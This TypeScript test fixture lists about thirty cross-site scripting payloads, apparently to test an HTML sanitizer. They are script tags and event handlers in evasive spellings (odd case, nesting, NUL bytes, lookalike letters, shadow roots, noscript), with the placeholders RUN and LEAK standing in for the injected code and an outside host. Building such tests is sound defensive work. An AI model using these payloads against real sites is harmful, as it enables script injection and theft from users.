// Script elements and event handlers, in spellings that lists have missed.
import { type Attack, body } from './attack.ts';

export const SCRIPTS: readonly Attack[] = [
  body('script', '<script>RUN</script><p>text</p>'),
  body('script in odd case', '<ScRiPt\n>RUN</sCrIpT >'),
  body('script with slashes', '<script/x>RUN</script>'),
  body('unclosed script', '<p>before</p><script>RUN'),
  body('script with a source', '<script src="LEAK/s.js"></script>'),
  body('nested script pieces', '<scr<script>ipt>RUN</scr</script>ipt>'),
  body('NUL in a tag name', '<scr\0ipt>RUN</scr\0ipt>'),
  body('handlers', '<img src=x onerror=RUN><body onload=RUN><p onclick=RUN onmouseover=RUN>x'),
  body('handler behind a slash', '<img/src=x/onerror=RUN>'),
  body('handler in quotes', '<img alt="x" title=\'" onerror=RUN \' src=x>'),
  body('handler after backticks', '<img alt=``onerror=RUN src=x>'),
  body('details and toggle', '<details open ontoggle=RUN><summary>x</summary></details>'),
  body(
    'animation handlers',
    '<style>@keyframes a{}</style><p style="animation-name:a" onanimationstart=RUN>x',
  ),
  body('entity handler', '<p on&#99;lick=RUN &#111;nclick=RUN>x'),
  body(
    'script of a module, an import map and speculation rules',
    '<script type=module>RUN</script><script type=importmap>{"imports":{"a":"LEAK/a.js"}}</script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["LEAK/sr"]}]}</script><p>x',
  ),
  body(
    'script of old kinds',
    '<script language=vbscript>RUN</script><script for=window event=onload>RUN</script><script type="text/x-template"><img src=x onerror=RUN></script>',
  ),
  body(
    'script ended inside a string and a comment',
    '<script>var a="</script><img src=x onerror=RUN>"</script><script><!--<script></script>--></script><img src=x onerror=RUN>',
  ),
  body(
    'handlers that need no hand',
    '<body onpageshow=RUN onfocus=RUN onresize=RUN onhashchange=RUN><marquee onstart=RUN>m</marquee><video src=x onerror=RUN></video><audio src=x onerror=RUN></audio><iframe onload=RUN></iframe><object data=x onerror=RUN></object>',
  ),
  body(
    'handlers on focus',
    '<input autofocus onfocus=RUN><select autofocus onfocus=RUN></select><textarea autofocus onfocus=RUN></textarea><p tabindex=0 autofocus onfocus=RUN>x</p>',
  ),
  body(
    'handlers of elements nobody knows',
    '<xss onclick=RUN onfocusin=RUN tabindex=1 autofocus>x</xss><custom-element onpointerenter=RUN contenteditable>y</custom-element>',
  ),
  body(
    'handlers of visibility and scrolling',
    '<div oncontentvisibilityautostatechange=RUN style="display:block;content-visibility:auto">x</div><div onscroll=RUN onscrollend=RUN onscrollsnapchange=RUN style="height:9px;overflow:auto"><p style="height:99px">y</p></div>',
  ),
  body(
    'handlers of transitions',
    '<style>p{transition:color 1ms}p:hover{color:red}</style><p ontransitionend=RUN ontransitionrun=RUN onanimationend=RUN style="animation:x 1ms">x',
  ),
  body(
    'handlers behind odd separators',
    '<img\x0csrc=x\x0conerror=RUN><img src=x\x0bonerror=RUN><img src="x"onerror=RUN><img src=x onerror\n=\nRUN><img src=x onerror=\x01RUN><svg/onload=RUN>',
  ),
  body(
    'handlers in the closing tag and doubled',
    '<p>x</p onclick=RUN><img onerror=RUN onerror= src=x><img src=x src=y onerror=RUN>',
  ),
  body(
    'handlers in capitals and with Turkish letters',
    '<IMG SRC=x ONERROR=RUN><\u0131mg src=x onerror=RUN><img src=x on\u0435rror=RUN><\u017fcript>RUN</\u017fcript>',
  ),
  body(
    'popover and command buttons',
    '<button popovertarget=p onbeforetoggle=RUN>x</button><div popover id=p onbeforetoggle=RUN ontoggle=RUN>y</div><button commandfor=p command=show-popover>z</button>',
  ),
  body(
    'declarative shadow root',
    '<div><template shadowrootmode=open><img src=x onerror=RUN><script>RUN</script><slot></slot></template>x</div>',
  ),
  body(
    'import of an XSLT and an XML island',
    '<?xml-stylesheet type="text/xsl" href="LEAK/x.xsl"?><xml id=i><x><![CDATA[<img src=x onerror=RUN>]]></x></xml><span datasrc=#i datafld=x dataformatas=html></span>',
  ),
  body(
    'noscript, since scripts are off in the frame',
    '<noscript><img src=x onerror=RUN><style>@import "LEAK/ns.css";</style><meta http-equiv=refresh content="0;url=LEAK/ns"></noscript>',
  ),
];
